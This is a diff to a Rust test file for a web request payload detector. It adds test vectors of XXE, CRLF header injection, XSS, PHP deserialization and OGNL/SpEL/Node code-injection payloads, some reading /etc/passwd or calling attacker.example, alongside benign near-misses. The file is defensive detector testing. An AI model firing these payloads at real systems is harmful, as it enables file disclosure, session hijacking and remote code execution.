@@ -1,7 +1,9 @@
 //! Payload analysis through its public API: classic payloads of each family in each location and
-//! encoding, benign text that must stay benign, body splitting (JSON nested deep, arrays, forms,
-//! multipart, malformed JSON), a payload at the end of a 64 KB field, and a proptest that any
-//! 64 KB of bytes in any location is scanned without a panic.
+//! encoding, benign text that must stay benign (near-misses of each detector included), line
+//! breaks judged by where they are, uploads and serialized state judged by their content, body
+//! splitting (JSON nested deep, arrays, forms, multipart, malformed JSON), a payload at the end of
+//! a 64 KB field, and a proptest that any 64 KB of bytes in any location is scanned without a
+//! panic.
 
 use proptest::prelude::*;
 use refiner_core::features::payload::{scan, scan_value, Decode, Family, Location, PayloadFindings, PayloadInput, Scratch};
@@ -41,6 +43,23 @@ fn classic_payloads_are_confirmed_as_their_family() {
         (Family::Ssrf, "http://169.254.169.254/latest/meta-data/"),
         (Family::Ssrf, "gopher://127.0.0.1:25/_HELO"),
         (Family::Code, "<?php echo shell_exec($_GET['c']); ?>"),
+        (Family::Code, "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
+        (Family::Code, "';die(md5(31337));//"),
+        (Family::Code, "{${exit()}}"),
+        (Family::Code, "$x=@$f('id');"),
+        (Family::Code, "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}"),
+        (Family::Code, "${T(java.lang.Runtime).getRuntime().exec('id')}"),
+        (Family::Code, "process.mainModule.require('child_process').execSync('id')"),
+        (Family::Code, "eval(String.fromCharCode(97,108,101,114,116,40,49,41))"),
+        (Family::Xss, "<img src=k onerror=prompt`x`>"),
+        (Family::Xss, "<style>@im\\port 'http://evil.example/x.css';</style>"),
+        (Family::Xss, "<div style=\"background:url(ja\\vasc\\ript:alert(1))\">"),
+        (Family::Xss, "`+window[`al`+`ert`](1)+`"),
+        (Family::Xxe, "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"),
+        (Family::Xxe, "<!DOCTYPE r [<!ENTITY % d SYSTEM \"http://attacker.example/x.dtd\"> %d;]><r/>"),
+        (Family::Xxe, "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></r>"),
+        (Family::Crlf, "\r\nSet-Cookie: sid=attacker"),
+        (Family::Crlf, "https://shop.example/\r\nLocation: https://attacker.example/"),
     ];
     for &(family, p) in cases {
         let f = value(p);
@@ -98,6 +117,71 @@ fn benign_text_that_looks_like_code_stays_unconfirmed() {
         let f = value(t);
         assert!(!f.any_confirmed(), "{t}: {:?}", confirmed(&f));
     }
+}
+
+/// Text that mentions what the new detectors look for, and data that shares their characters:
+/// XML prose and documents, multi-line messages, developers' questions quoting code, JSON with
+/// `$` keys, base64 and hex that start with other letters, CSS with escapes.
+#[test]
+fn near_misses_of_xxe_crlf_code_and_css_stay_unconfirmed() {
+    for t in [
+        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><order id=\"42\"><item sku=\"A-1\" qty=\"2\"/></order>",
+        "Our API accepts XML: send <!DOCTYPE note SYSTEM \"note.dtd\"> if you want validation.",
+        "How do I stop libxml from resolving <!ENTITY xxe SYSTEM \"file:///etc/passwd\"> in user uploads?",
+        "<!DOCTYPE html><html lang=\"en\"><head><title>x</title></head></html>",
+        "Hi team,\r\nNote: bring ID\r\nLocation: https://maps.example/office\r\nThanks!",
+        "2024-05-01 12:00:01 INFO started\n2024-05-01 12:00:02 WARN Retry-After: 30\nDone",
+        "Headers I get back:\nContent-Type: text/html\nSet-Cookie: sid=abc; HttpOnly",
+        "In PHP, $_SERVER['HTTP_HOST'] can be spoofed; use md5($x) carefully and call exit(); after a redirect.",
+        "Why does Runtime.getRuntime().exec(\"ls\") hang? I read about java.lang.ProcessBuilder too.",
+        "process.mainModule is deprecated; use require.main instead of require('child_process')",
+        "{\"$set\": {\"price\": \"$5 (USD)\", \"$inc\": {\"qty\": 1}}, \"$ref\": \"#/defs/a\"}",
+        "rOmAbCdEfGhIjKlMnOpQrStUvWxYz0123456789",
+        "TzoyNTY0 is my ticket",
+        "acedemic0005 and ace0005",
+        "H4sIAAAAAAAAAKtWKkktLlGyUlAqzi8tUkjMSy1WqAUAr9Jv5hcAAAA=",
+        "<style>.md\\:flex{display:flex} q::before{content:\"\\201C\"} html{scroll-behavior:smooth}</style>",
+        "Use `alert()` sparingly, and ${window.location.origin} for the base URL",
+        "anna.smith@company.com@outlook.com",
+        "Regular expression(s) at 10:30 a.m.",
+    ] {
+        let f = value(t);
+        assert!(!f.any_confirmed(), "{t}: {:?}", confirmed(&f));
+    }
+}
+
+/// The same multi-line text is a payload where a newline never belongs and text in a body.
+#[test]
+fn line_breaks_are_judged_by_where_they_are() {
+    let note = "Thanks%0D%0ANote:%20bring%20ID";
+    let form = body(&format!("name=anna&comment={note}"));
+    assert_eq!(form.confirmed(Family::Crlf), 0, "a form's textarea: {form:?}");
+    let path = scan(&PayloadInput::only(Location::Path, &format!("/a/{note}")), &mut Scratch::default());
+    assert_eq!(path.confirmed(Family::Crlf), 1, "a path segment: {path:?}");
+    let query = scan(&PayloadInput::only(Location::Query, &format!("/a?lang={note}")), &mut Scratch::default());
+    assert_eq!((query.confirmed(Family::Crlf), query.suspicious(Family::Crlf)), (0, 1), "a query's text line: {query:?}");
+    let split = scan(&PayloadInput::only(Location::Query, "/r?to=%2Fhome%0D%0ASet-Cookie:%20sid%3Devil"), &mut Scratch::default());
+    assert!(split.confirmed_in(Family::Crlf, Location::Query), "{split:?}");
+    let json = body("{\"returnUrl\":\"/home\\r\\nSet-Cookie: sid=evil\",\"note\":\"Hi\\nNote: x\"}");
+    assert_eq!(json.confirmed(Family::Crlf), 1, "a JSON redirect target: {json:?}");
+    let encoded = body("{\"lang\":\"en%0d%0aX-Injected: 1\"}");
+    assert!(encoded.confirmed(Family::Crlf) == 1 && encoded.obfuscated, "encoded breaks in a body: {encoded:?}");
+}
+
+#[test]
+fn uploads_and_serialized_state_are_judged_by_their_content() {
+    let svg = |doc: &str| format!("--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n{doc}\r\n--b--\r\n");
+    let evil = body(&svg("<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><svg>&x;</svg>"));
+    assert_eq!(evil.confirmed(Family::Xxe), 1, "{evil:?}");
+    let illustrator = body(&svg("<?xml version=\"1.0\"?><!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\" [<!ENTITY ns_ai \"http://ns.adobe.com/AdobeIllustrator/10.0/\">]><svg xmlns:i=\"&ns_ai;\"/>"));
+    assert!(!illustrator.any_confirmed() && illustrator.suspicious(Family::Xxe) == 1, "{illustrator:?}");
+    // A JSF view state without encryption is a Java object stream: suspicious, not confirmed.
+    let state = body("javax.faces.ViewState=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAAAeA%3D%3D");
+    assert!(!state.any_confirmed() && state.suspicious(Family::Code) == 1, "{state:?}");
+    let cookie = scan(&PayloadInput::only(Location::Cookie, "ci_session=a%3A1%3A%7Bs%3A2%3A%22id%22%3Bs%3A3%3A%22abc%22%3B%7D"), &mut Scratch::default());
+    assert!(!cookie.any_confirmed() && cookie.suspicious(Family::Code) == 1, "a serialized array: {cookie:?}");
+    let object = scan(&PayloadInput::only(Location::Cookie, "data=O%3A8%3A%22stdClass%22%3A0%3A%7B%7D"), &mut Scratch::default());
+    assert!(object.confirmed_in(Family::Code, Location::Cookie), "{object:?}");
 }
 
 /// A SQL query written as a question in a support form is a gray zone: it is SQL, and it would
@@ -189,6 +273,7 @@ proptest! {
         pieces in prop::collection::vec(prop::sample::select(vec![
             "'", "\"", "<", ">", "${", "{{", "}}", "%", "%25", "&#", "\\x", "\\u", "..", "/", ";", "|", "`", "$(", "/*", "*/",
             "\x1f", "--", "=", "&", "://", "[", "]", "{", "}", "\\", "<?", "<script", " on", "jndi:", "\0", "\n", "%c0",
+            "<!ENTITY", "<!DOCTYPE x [", "\r\n", "Set-Cookie: a=b", "O:8:", "%{", "rO0AB", "@", "#", "<style>", "\u{560A}",
         ]), 0..2000),
         location in prop::sample::select(Location::ALL.to_vec()),
     ) {
